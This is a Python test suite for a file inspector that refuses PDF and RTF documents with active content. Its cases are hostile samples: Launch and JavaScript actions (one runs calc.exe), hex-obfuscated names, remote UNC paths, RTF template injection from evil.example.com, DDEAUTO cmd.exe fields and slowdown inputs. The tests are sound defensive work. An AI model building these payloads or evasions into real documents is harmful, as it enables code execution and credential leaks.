"""Documents with active content are refused in any spelling; prose that mentions it is accepted."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, NumberObject, StreamObject

from jemmo.files import active
from jemmo.files.inspection import inspect
from jemmo.files.kinds import PDF, RTF
from jemmo.files.verdict import Refused
from jemmo.sandbox.files import pdf

LIMIT = 200 * 1024 * 1024
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"


def with_object(body: bytes) -> bytes:
    return pdf("Ada").replace(b"trailer", b"9 0 obj\n" + body + b"\nendobj\ntrailer")


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< " + dictionary + b" >>\nstream\n" + content + b"\nendstream"


def packed(
    body: bytes,
    *,
    dictionary: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> bytes:
    """Return a PDF with an object stream that contains one object."""
    return with_object(stream(pack(b"9 0 " + body), dictionary))


def verdict(content: bytes) -> str:
    try:
        return inspect(content, max_bytes=LIMIT)
    except Refused as refused:
        return refused.code


@pytest.mark.parametrize(
    "body",
    [
        LAUNCH,
        b"<< /S /#4caunch >>",
        b"<< /S /#4C#61#75#6e#63#68 >>",
        b"<< /#53 /L#61unch >>",
        b"<</S/Launch>>",
        b"<</Type/Action/S/JavaScript/JS(app.alert())>>",
        b"<< /S /Java#53cript /JS 5 0 R >>",
        b"<< /S % a remark\n /Launch >>",
        b"<< /S\x00\x00/Launch >>",
        b"<< /S /Rendition /JS (x) >>",
        b"<< /Subtype /RichMedia >>",
        b"<< /Names << /JavaScript 5 0 R >> >>",
        b"<< /XFA [(template) 5 0 R] >>",
        b"<< /#58FA 5 0 R >>",
        b"/Launch",  # the object may be the value of an action elsewhere
        b"<< /Kids [/Launch] >>",
        b"<< /OpenAction << /S /Launch >> >>",
        rb"<< /AA << /O << /S /GoToE /F (\\\\files.example\\share) /D [0 /Fit] >> >> >>",
        rb"<< /OpenAction << /S /GoToR /F(\134\134files.example\134x) >> >>",
        b"<< /S /ImportData /F (//files.example/x.fdf) >>",
        b"<< /S /GoToR /#46 << /U#46 <FEFF005c005C0066> >> >>",
        b"<< /S /GoToR /UF (\xfe\xff\0\\\\\0\\\\\0f) >>",
        b"<< /AA << /O << /S /JavaScript >> >> >>",
    ],
)
@pytest.mark.parametrize("place", [with_object, packed], ids=["plain", "packed"])
def test_a_pdf_with_active_content_is_refused(place: Callable[[bytes], bytes], body: bytes) -> None:
    assert verdict(place(body)) == "embedded"


@pytest.mark.parametrize(
    "body",
    [
        b"<< /Title (Developer: HTML/JavaScript/CSS) >>",
        b"<< /URI (https://example.com/courses/JavaScript) >>",
        b"<< /OpenAction [3 0 R /FitH null] >>",
        b"<< /S /URI /URI (https://example.com) >>",
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
        b"<< /S /GoToR /F (portfolio.pdf) /D [0 /Fit] >>",
        rb"<< /S /GoToR /F (D:\\resumes\\portfolio.pdf) >>",
        b"<< /S /URI /URI (file:///D:/resumes/portfolio.pdf) >>",
        b"<< /Font << /F 4 0 R >> /Filter /FlateDecode >>",
        b"<< /Type /Filespec /EF << /F 5 0 R >> >>",
        b"<< /LaunchDate (2019) /JavaScripts 5 >>",
        b"<< /Type /Outlines /First 6 0 R /Last 7 0 R >>",
    ],
)
@pytest.mark.parametrize("place", [with_object, packed], ids=["plain", "packed"])
def test_a_pdf_that_only_mentions_it_is_accepted(
    place: Callable[[bytes], bytes], body: bytes
) -> None:
    assert verdict(place(body)) == PDF


ENDING = zlib.compress(b"9 0 << /A 1 >>")
PACKED = zlib.compress(b"9 0 " + LAUNCH)
OBJECTS = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"


@pytest.mark.parametrize(
    "end", [b" \n", b" \r\n", b"\t\n", b"\x00\n", b"\r", b" " * 5000 + b"\n", b" x\n"]
)
def test_an_object_stream_is_opened_whatever_follows_the_word_stream(end: bytes) -> None:
    """PDFium starts to read on the next line, whatever the rest of this one contains."""
    body = b"<< " + OBJECTS + b" >>\nstream" + end + PACKED + b"\nendstream"
    assert verdict(with_object(body)) == "embedded"


@pytest.mark.parametrize(
    "false",
    [
        b"/X (>> stream\n" + ENDING + b"\nendstream)",
        b"% >> stream\n" + ENDING + b"\n",
        b"/stream\n" + ENDING + b"\n",
        b"/X <<>>stream\n" + ENDING + b"\nendstream",
        b"/X (>> endobj 8 0 obj <<>> stream\n" + ENDING + b"\nendstream)",
        b"/X 5 0 R % stream",
    ],
)
def test_no_false_stream_hides_an_object_stream(false: bytes) -> None:
    body = b"<< " + OBJECTS + false + b" >>\nstream\n" + PACKED + b"\nendstream"
    assert verdict(with_object(body)) == "embedded"


def test_every_object_stream_is_opened() -> None:
    assert verdict(with_object(b"/ObjStm") + b" /ObjStm ") == "embedded"
    assert verdict(packed(b"<< /A 1 >>") + b"\n/ObjStm") == "embedded"
    assert verdict(packed(b"<< /A 1 >>")) == PDF


def twice(content: bytes) -> bytes:
    return zlib.compress(zlib.compress(content))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (packed(LAUNCH, dictionary=b"/N 1 /First 4 /Filter /FlateDecode"), "embedded"),
        (packed(LAUNCH, dictionary=b"/Type /Obj#53tm /N 1 /Filter /Fl"), "embedded"),
        (
            packed(LAUNCH, dictionary=b"/Type /ObjStm /Filter [/FlateDecode /Fl]", pack=twice),
            "embedded",
        ),
        (packed(b"<< /A 1 >>", dictionary=b"/Type /ObjStm /Filter [/Fl /Fl]", pack=twice), PDF),
        (packed(b"1/Launch", dictionary=b"/N 1 /First 4 /Filter /Fl"), PDF),
        (packed(b"<<>>", dictionary=b"/Type /ObjStm /Filter /ASCIIHexDecode"), "embedded"),
        (packed(b"<<>>", dictionary=b"/Type /ObjStm /Filter 12 0 R"), "embedded"),
        (
            packed(
                b"<<>>", dictionary=b"/Type /ObjStm /Filter /Fl /DecodeParms << /Predictor 12 >>"
            ),
            "embedded",
        ),
        (packed(b"<<>>", pack=lambda content: content), "embedded"),
        (packed(b"<<>>", pack=lambda content: zlib.compress(content)[:-9]), "embedded"),
        (packed(b"<<>>" + b" " * 5_000_000), "archive_bomb"),
    ],
)
def test_object_streams_are_opened_or_refused(content: bytes, code: str) -> None:
    assert verdict(content) == code


def test_an_object_is_found_by_its_number_even_without_a_space_before() -> None:
    content = b"8 0 9 1 1/Launch"
    body = stream(zlib.compress(content), b"/N 2 /First 8 /Filter /FlateDecode")
    assert verdict(with_object(body)) == "embedded"


def encrypted(*, owner_only: bool, javascript: bool) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("Ada"))))
    if javascript:
        body = StreamObject()
        body.update({NameObject("/First"): NumberObject(4), NameObject("/N"): NumberObject(1)})
        body.set_data(b"9 0 << /S /JavaScript >>")
        writer._add_object(body.flate_encode())
    writer.encrypt("" if owner_only else "secret", "owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_an_encrypted_pdf_is_accepted_if_it_can_be_inspected() -> None:
    assert verdict(encrypted(owner_only=True, javascript=False)) == PDF
    assert verdict(encrypted(owner_only=True, javascript=True)) == "embedded"
    assert verdict(encrypted(owner_only=False, javascript=False)) == "encrypted"


@pytest.mark.parametrize(
    "body",
    [
        rb"{\object\objdata 0105}",
        rb"{\object{\*\objdata 0105}}",
        rb"{\*\ObjData 0105}",
        b"{\\obj\r\ndata 0105}",
        b"{\\obj\\*data 0105}",
        b"{\\o{}bjdata 0105}",
        b"{\\objda\tta 0105}",
        b"{\\obj\\bin0 data 0105}",
        b"{\\objocx}",
        b"{\\obj\nautlink}",
        rb"{\field{\*\fldinst \ddeauto}}",
        b"{\\bin3 abc\\objdata 0105}",
        rb"{\*\template http://evil.example.com/a.dotm}",
        rb"{\*\template\b \'68ttp://evil.example.com/a.dotm}",
        rb"{\*\template \u104?ttp://evil.example.com/a.dotm}",
        rb"{\*\template \\\\evil.example.com\\a.dotm}",
        b"{\\*\\templ\r\nate {http:{}//evil.example.com/a.dotm}}",
        b"{\\*\\template" + b" " * 9000 + b"http://evil.example.com/}",
        rb"{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}",
        rb"{\field{\*\fldinst{\rtlch\fcs1 DD{\b E} cmd}}}",
        rb"{\field{\*\fldinst{\b}DDEAUTO cmd}}",
        rb"{\field{\*\fldinst D\'44E cmd}}",
        b"{\\field{\\*\\fld\r\ninst\r\nDDE cmd}}",
        rb'{\field{\*\fldinst {INCLUDEPICTURE "file://files.example/x.png" \\* MERGEFORMAT \\d}}}',
        rb'{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\files.example\\\\x.png" \\d}}',
        rb"{\field{\*\fldinst INCLUDE{\b TEXT} //files.example/x.docx}}",
    ],
)
def test_an_rtf_with_an_object_is_refused(body: bytes) -> None:
    assert verdict(rb"{\rtf1 Ada " + body + b"}") == "embedded"
    assert verdict(rb"{\rt Ada " + body + b"}") == "embedded"


@pytest.mark.parametrize(
    "body",
    [
        rb"objdata, object data \par \objw10 \bin3 abc",
        rb"{\*\template C:\\Users\\Ada\\Templates\\Normal.dotm}",
        rb"{\*\template Normal.dotm}",
        rb"\templatefoo http://example.com",
        rb'{\field{\*\fldinst HYPERLINK "https://example.com/dde"}{\fldrslt DDE and DDEAUTO}}',
        rb"{\field{\*\fldinst MERGEFIELD ADDED}}",
        rb'{\field{\*\fldinst INCLUDEPICTURE "file:///D:\\photos\\photo.png" \\d}}',
        rb'{\field{\*\fldinst INCLUDEPICTURE "https://example.com/photo.png" \\d}}',
    ],
)
def test_an_rtf_that_only_mentions_it_is_accepted(body: bytes) -> None:
    assert verdict(rb"{\rtf1 " + body + b"}") == RTF


N = 400_000
HOSTILE = {
    "names": b"/Launch" * N,
    "spelled": b"/#4caunc#68x" * N,
    "keys": b"/S%" * N,
    "spaces": b"/S" + b" " * (6 * N) + b"/x",
    "first": b"/First" + b" " * (6 * N),
    "firsts": b"/First 1 " * N,
    "streams": b"stream\n" * N,
    "packed": b"/First 1/Fl stream\n" * N,
    "bare": b"/First 1/Fl stream\n" + b"\x78\x9c" + b"\x00\x05\x00\xfa\xff12345" * N,
    "marked": b"/ObjStm stream" * N,
    "one line": b"stream" * N,
    "parentheses": b"(" * (6 * N),
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.sample(4)
def test_a_pdf_made_to_be_slow_gets_a_verdict(name: str) -> None:
    """With quadratic time, this would take hours."""
    assert verdict(b"%PDF-1.7 " + HOSTILE[name])


@pytest.mark.parametrize(
    "part",
    [
        b"\\obj",
        b"\\*",
        b"\\bin1",
        b"{\\o",
        b"\\objdat",
        b"\\bin1 \\obj{}",
        b"\\fldinst",
        b"\\f{",
        b"\\u1 ",
    ],
)
@pytest.mark.sample(3)
def test_an_rtf_made_to_be_slow_gets_a_verdict(part: bytes) -> None:
    assert verdict(b"{\\rtf1 " + part * N) == RTF


def test_a_great_many_templates_are_refused_at_once() -> None:
    assert verdict(b"{\\rtf1 " + b"\\template a" * N) == "embedded"


@pytest.mark.parametrize("first", [b"9999999999", b"2000000"])
def test_an_index_of_objects_that_would_fill_the_memory_is_refused(first: bytes) -> None:
    packed = zlib.compress(b"11 " * 1_000_000)
    head = b"1 0 obj <</First " + first + b"/Type/ObjStm/Filter/FlateDecode>>stream\n"

    with pytest.raises(active.TooMuch):
        active.is_active_inside(b"%PDF-1.5\n" + head + packed + b"\nendstream endobj")


def test_the_output_of_each_decompression_round_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(active, "MAX_UNPACKED", 1_000_000)
    inner = zlib.compress(b"y" * 300_000, 0)  # stored without compression
    packed = zlib.compress(inner)
    head = b"1 0 obj <</First 0/Type/ObjStm/Filter[/FlateDecode/FlateDecode]>>stream\n"
    stream = head + packed + b"\nendstream endobj\n"

    assert not active.is_active_inside(b"%PDF-1.5\n" + stream)
    with pytest.raises(active.TooMuch):
        active.is_active_inside(b"%PDF-1.5\n" + stream * 2)
